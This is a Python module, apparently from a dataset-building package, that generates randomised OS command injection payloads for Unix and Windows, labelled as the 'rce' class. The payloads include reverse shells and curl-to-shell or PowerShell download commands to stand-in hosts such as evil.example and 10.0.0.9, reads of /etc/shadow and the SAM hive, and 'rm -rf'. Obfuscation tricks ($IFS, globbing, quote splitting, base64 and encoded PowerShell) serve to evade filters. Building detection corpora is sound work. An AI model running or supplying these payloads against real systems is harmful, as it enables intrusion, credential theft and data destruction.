"""OS command injection: a separator that ends the application's command, a command, and the
obfuscations shells and cmd.exe undo before running it.

Unix: `;`, `|`, `||`, `&&`, `&`, line breaks, backticks and `$(...)`; the command word
globbed (`/b??/c?t`), split by quotes (`c'a't`), escaped (`c\\at`), built from variables
(`a=c;b=at;$a$b`), from brace expansion (`{cat,/etc/passwd}`), with `$IFS` or `<` for spaces.
Windows: `&`, `|`, cmd's `^` escapes and `%VAR%` expansion, PowerShell (`IEX`, `-enc`)."""

from __future__ import annotations

import base64
import random

from owncorpus.grammar import Attack, case, draw_distinct, one

CLASS = "rce"
PARAMS = ("host", "ip", "cmd", "file", "target", "domain", "addr", "exec", "path", "ping")

# (command word, argument): what an attacker runs
UNIX = (
    ("cat", "/etc/passwd"), ("cat", "/etc/shadow"), ("id", ""), ("whoami", ""), ("uname", "-a"), ("ls", "-la /"),
    ("wget", "http://evil.example/x -O /tmp/x"), ("curl", "http://evil.example/s.sh|sh"), ("nc", "-e /bin/sh 10.0.0.9 4444"),
    ("bash", "-i >& /dev/tcp/10.0.0.9/4444 0>&1"), ("sleep", "10"), ("ping", "-c 10 127.0.0.1"),
    ("python3", "-c 'import os;os.system(\"id\")'"), ("perl", "-e 'exec \"/bin/sh\"'"), ("head", "/etc/passwd"),
    ("tail", "/etc/hosts"), ("nslookup", "x.evil.example"), ("rm", "-rf /tmp/app"), ("chmod", "777 /tmp/x"),
    ("sh", "-c id"), ("busybox", "nc 10.0.0.9 4444 -e sh"), ("env", ""), ("cat", "/proc/self/environ"),
    ("echo", "x>/var/www/html/x.php"), ("more", "/etc/passwd"), ("less", "/etc/passwd"),
)
SEPARATORS = (";", "; ", "|", " | ", "||", "&&", " && ", "&", "\n", "\r\n", ";\n")
LEADS = ("", "127.0.0.1", "example.com", "1", "x", "8.8.8.8", "a.txt", "'", "\"")
WINDOWS = (
    "whoami", "type C:\\Windows\\win.ini", "ipconfig /all", "net user", "dir C:\\", "systeminfo",
    "certutil -urlcache -f http://evil.example/x.exe x.exe", "tasklist", "net localgroup administrators",
    "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/x')\"",
    "powershell -nop -w hidden -c \"Invoke-WebRequest http://evil.example/x -OutFile x.exe\"",
    "cmd /c whoami", "%COMSPEC% /c whoami", "bitsadmin /transfer x http://evil.example/x C:\\x.exe",
    "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", "mshta http://evil.example/x.hta",
    "wmic process call create calc.exe", "reg query HKLM\\SAM",
)


def _glob(word: str, rng: random.Random) -> tuple[str, bool]:
    """`/bin/cat` written with ? and * as the shell expands them back."""
    path = one(rng, ("/bin/", "/usr/bin/", "/???/", "/b??/", "/usr/b??/", "/*/"))
    if path.endswith("*/"):
        path = "/b*/"
    chars = list(word)
    for i in range(len(chars)):
        if i and rng.random() < 0.5:
            chars[i] = "?"
    if rng.random() < 0.2 and len(word) > 2:
        chars = chars[:1] + ["*"] + chars[-1:]
    arg_glob = rng.random() < 0.5
    return path + "".join(chars), arg_glob


def _split_quotes(word: str, rng: random.Random) -> str:
    i = rng.randrange(1, len(word)) if len(word) > 1 else 1
    q = one(rng, ("'", '"'))
    form = rng.randrange(3)
    if form == 0:
        return word[:i] + q + q + word[i:]
    if form == 1:
        return word[:i] + q + word[i:i + 1] + q + word[i + 1:]
    return word[:i] + "\\" + word[i:]


def _obfuscate_arg(arg: str, rng: random.Random) -> str:
    if "/etc/passwd" in arg and rng.random() < 0.5:
        return arg.replace("/etc/passwd", one(rng, ("/e??/p?ss??", "/etc/pa*wd", "/e*c/p*d", "${HOME:0:1}etc${HOME:0:1}passwd",
                                                     "/etc/pas's'wd", "/et\\c/pa\\sswd", "/etc/./passwd")))
    return arg


def _unix(rng: random.Random) -> str:
    word, arg = one(rng, UNIX)
    trick = rng.randrange(9)
    space = " "
    if trick == 0:
        word, glob_arg = _glob(word, rng)
        if glob_arg:
            arg = _obfuscate_arg(arg, rng)
    elif trick == 1:
        word = _split_quotes(word, rng)
    elif trick == 2:
        space = one(rng, ("${IFS}", "$IFS$9", "${IFS%??}", "\t"))
    elif trick == 3 and arg and " " not in arg:
        return "{" + word + "," + _obfuscate_arg(arg, rng) + "}"
    elif trick == 4 and len(word) > 2:
        i = rng.randrange(1, len(word))
        a, b = one(rng, (("a", "b"), ("x", "y"), ("c1", "c2")))
        return f"{a}={word[:i]};{b}={word[i:]};${a}${b}" + (" " + arg if arg else "")
    elif trick == 5:
        word = word[0] + "$@" + word[1:] if len(word) > 1 else word
    elif trick == 6 and arg:
        if word in ("cat", "head", "more", "less") and " " not in arg:
            return word + "<" + _obfuscate_arg(arg, rng)
    elif trick == 7:
        cmd = word + (" " + arg if arg else "")
        return f"echo {base64.b64encode(cmd.encode()).decode()}|base64 -d|{one(rng, ('sh', 'bash'))}"
    arg = arg.replace(" ", space) if space != " " else arg
    return word + (space + arg if arg else "")


def _windows(rng: random.Random) -> str:
    cmd = one(rng, WINDOWS)
    trick = rng.randrange(4)
    if trick == 0 and cmd.startswith("whoami"):
        cmd = "^".join("whoami")  # cmd.exe drops the carets
    elif trick == 1 and not cmd.startswith("powershell"):
        first, _, rest = cmd.partition(" ")
        cmd = case(first, rng) + (" " + rest if rest else "")
    elif trick == 2:
        script = one(rng, ("whoami", "Get-Content C:\\Windows\\win.ini", "iex(iwr http://evil.example/x)"))
        enc = base64.b64encode(script.encode("utf-16-le")).decode()
        cmd = f"{case('powershell', rng)} {one(rng, ('-enc', '-EncodedCommand', '-e', '-nop -enc'))} {enc}"
    sep = one(rng, ("&", " & ", "|", " | ", "&&", "||", "\r\n"))
    return one(rng, ("", "127.0.0.1", "x", "\"")) + sep + cmd


def _compose(rng: random.Random) -> str:
    if rng.random() < 0.22:
        return _windows(rng)
    cmd = _unix(rng)
    form = rng.randrange(7)
    lead = one(rng, LEADS)
    if form == 0:
        return lead + "`" + cmd + "`"
    if form == 1:
        return lead + "$(" + cmd + ")"
    if lead in ("'", '"'):
        # inside the application's quoted argument: close it, run, reopen
        return lead + one(rng, (";", "|", "&&")) + cmd + one(rng, (";" + lead, "#", " " + lead))
    return lead + one(rng, SEPARATORS) + cmd + one(rng, ("", "", "", ";", " #", "|"))


def attacks(rng: random.Random, n: int) -> list[Attack]:
    return [Attack(CLASS, p, PARAMS) for p in draw_distinct(rng, _compose, n)]
